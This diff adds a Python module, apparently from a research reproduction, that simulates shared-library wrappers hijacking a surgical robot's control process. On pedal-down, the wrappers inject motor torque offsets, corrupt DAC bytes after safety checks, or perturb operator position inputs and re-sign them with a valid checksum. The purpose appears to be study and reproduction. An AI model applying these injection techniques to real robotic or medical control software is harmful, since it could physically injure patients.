@@ -1,0 +1,246 @@
+"""Attack Deployment phase: the injection wrappers (scenarios A and B).
+
+Scenario B — *injection of unintended motor torque commands* — exports a
+``write`` wrapper that, when the trigger (Byte 0 = Pedal Down) is active,
+modifies the DAC fields of the outgoing USB packet **after** the software
+safety checks have passed (the TOCTOU exploit).  Two payloads are provided:
+
+- :class:`DacOffsetInjection`: adds a chosen error value to a DAC channel —
+  the parametrized attack of Table IV / Figure 9(b);
+- :class:`ByteCorruptionInjection`: overwrites a raw byte with a random
+  value (e.g. between 0 and 100), the blunt corruption of Section III.C.
+
+Scenario A — *injection of unintended user inputs* — exports a ``recvfrom``
+wrapper that perturbs the operator's desired-position increments after
+they are received by the control software, plus a passive ``write`` wrapper
+that feeds the shared Pedal-Down trigger (the malware watches the robot
+state through the same side channel either way).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Optional, Sequence, Tuple
+
+import numpy as np
+
+from repro import constants
+from repro.attacks.malware import PedalDownTrigger
+from repro.errors import AttackConfigError, ChecksumError, PacketError
+from repro.sysmodel.linker import SharedLibrary
+from repro.sysmodel.process import Process
+from repro.teleop.itp import decode_itp, encode_itp, ItpPacket
+
+_INT16_MIN, _INT16_MAX = -(1 << 15), (1 << 15) - 1
+
+
+@dataclass
+class AttackRecord:
+    """Summary of what an injection library actually did during a run."""
+
+    scenario: str
+    error_value: float
+    period_cycles: int
+    activations: int = 0
+    first_active_cycle: Optional[int] = None
+
+    @property
+    def fired(self) -> bool:
+        """Whether the attack activated at least once."""
+        return self.activations > 0
+
+
+# ---------------------------------------------------------------------------
+# Scenario B payloads
+# ---------------------------------------------------------------------------
+
+
+class DacOffsetInjection:
+    """Add ``offset_counts`` to one DAC channel of the USB packet."""
+
+    def __init__(self, offset_counts: int, channel: int = 0) -> None:
+        if not (0 <= channel < constants.USB_NUM_CHANNELS):
+            raise AttackConfigError(f"bad DAC channel {channel}")
+        if offset_counts == 0:
+            raise AttackConfigError("offset_counts must be non-zero")
+        self.offset_counts = int(offset_counts)
+        self.channel = channel
+
+    def apply(self, data: bytes) -> bytes:
+        """Return the modified packet bytes (checksum left stale)."""
+        buf = bytearray(data)
+        lo = constants.USB_DAC_OFFSET + 2 * self.channel
+        value = int.from_bytes(buf[lo : lo + 2], "big", signed=True)
+        value = max(_INT16_MIN, min(_INT16_MAX, value + self.offset_counts))
+        buf[lo : lo + 2] = value.to_bytes(2, "big", signed=True)
+        return bytes(buf)
+
+
+class ByteCorruptionInjection:
+    """Overwrite one raw (non-state) byte with a random value.
+
+    The byte position and value are drawn once, at the first activation,
+    and held for the whole burst — one corruption event, sustained over
+    the activation period, exactly like the paper's "inject a random value
+    (e.g., between 0 and 100) to one of the bytes".
+    """
+
+    def __init__(
+        self,
+        rng: np.random.Generator,
+        byte_index: Optional[int] = None,
+        value_range: Tuple[int, int] = (0, 100),
+    ) -> None:
+        if byte_index is not None and byte_index == constants.USB_STATE_BYTE:
+            raise AttackConfigError(
+                "corrupting the state byte would break the trigger"
+            )
+        self.rng = rng
+        self.byte_index = byte_index
+        self.value_range = value_range
+        self._chosen_value: Optional[int] = None
+
+    def apply(self, data: bytes) -> bytes:
+        """Return the packet with the corrupted byte."""
+        if self.byte_index is None:
+            # Pick the high-order byte of one of the live DAC channels
+            # (channels 0-2 drive the three modelled motors): a "random
+            # value between 0 and 100" written there re-commands the motor
+            # to up to ~25k counts, which is what makes the arm jump.
+            channel = int(self.rng.integers(0, 3))
+            self.byte_index = constants.USB_DAC_OFFSET + 2 * channel
+        if self._chosen_value is None:
+            self._chosen_value = int(
+                self.rng.integers(self.value_range[0], self.value_range[1] + 1)
+            )
+        buf = bytearray(data)
+        buf[self.byte_index] = self._chosen_value
+        return bytes(buf)
+
+
+def build_scenario_b_library(
+    trigger: PedalDownTrigger,
+    payload,
+    target_process: str = "r2_control",
+    name: str = "libinject_b.so",
+) -> SharedLibrary:
+    """The deployment-phase library for scenario B (torque commands).
+
+    The wrapper checks the process name and packet size, feeds Byte 0 to
+    the trigger, and — while active — rewrites the DAC bytes before
+    calling the original ``write``.
+    """
+    library = SharedLibrary(name)
+
+    def write_factory(next_write, process: Process):
+        def malicious_write(fd: int, data: bytes) -> int:
+            if (
+                process.name == target_process
+                and len(data) == constants.USB_PACKET_SIZE
+            ):
+                state_byte = data[constants.USB_STATE_BYTE]
+                if trigger.observe(state_byte):
+                    data = payload.apply(data)
+            return next_write(fd, data)
+
+        return malicious_write
+
+    library.export("write", write_factory)
+    return library
+
+
+# ---------------------------------------------------------------------------
+# Scenario A payload + library
+# ---------------------------------------------------------------------------
+
+
+class UserInputInjection:
+    """Add a position error to the operator's incremental commands.
+
+    ``error_m`` metres are injected *per packet* along ``direction`` while
+    the trigger is active, so the total commanded deviation grows with the
+    activation period — matching the paper's observation that impact
+    probability rises with both the injected error value and the period.
+    """
+
+    def __init__(
+        self,
+        error_m: float,
+        direction: Optional[Sequence[float]] = None,
+        rng: Optional[np.random.Generator] = None,
+    ) -> None:
+        if error_m <= 0:
+            raise AttackConfigError("error_m must be positive")
+        self.error_m = float(error_m)
+        if direction is None:
+            rng = rng or np.random.default_rng(0)
+            vec = rng.standard_normal(3)
+        else:
+            vec = np.asarray(direction, dtype=float)
+        norm = np.linalg.norm(vec)
+        if norm < 1e-12:
+            raise AttackConfigError("direction must be non-zero")
+        self.direction = vec / norm
+
+    def apply(self, packet: ItpPacket) -> ItpPacket:
+        """Return a copy of the console packet with the injected increment."""
+        return ItpPacket(
+            sequence=packet.sequence,
+            pedal_down=packet.pedal_down,
+            dpos=packet.dpos + self.error_m * self.direction,
+            dquat=packet.dquat,
+            mode=packet.mode,
+        )
+
+
+def build_scenario_a_library(
+    trigger: PedalDownTrigger,
+    payload: UserInputInjection,
+    target_process: str = "r2_control",
+    name: str = "libinject_a.so",
+) -> SharedLibrary:
+    """The deployment-phase library for scenario A (user inputs).
+
+    Exports *two* wrappers: a passive ``write`` wrapper that feeds the
+    Pedal-Down trigger from the USB side channel, and a ``recvfrom``
+    wrapper that perturbs the parsed console packets while the trigger is
+    active.  The modification happens after the control software has
+    received (and checksum-validated) the datagram, modelling the paper's
+    in-process corruption of user inputs; the re-encoded packet therefore
+    carries a fresh valid checksum.
+    """
+    library = SharedLibrary(name)
+    state = {"active": False}
+
+    def write_factory(next_write, process: Process):
+        def observing_write(fd: int, data: bytes) -> int:
+            if (
+                process.name == target_process
+                and len(data) == constants.USB_PACKET_SIZE
+            ):
+                state["active"] = trigger.observe(data[constants.USB_STATE_BYTE])
+            return next_write(fd, data)
+
+        return observing_write
+
+    def recvfrom_factory(next_recvfrom, process: Process):
+        def malicious_recvfrom(fd: int, max_bytes: int):
+            data = next_recvfrom(fd, max_bytes)
+            if (
+                data is None
+                or process.name != target_process
+                or len(data) != constants.ITP_PACKET_SIZE
+                or not state["active"]
+            ):
+                return data
+            try:
+                packet = decode_itp(data)
+            except (PacketError, ChecksumError):
+                return data
+            return encode_itp(payload.apply(packet))
+
+        return malicious_recvfrom
+
+    library.export("write", write_factory)
+    library.export("recvfrom", recvfrom_factory)
+    return library
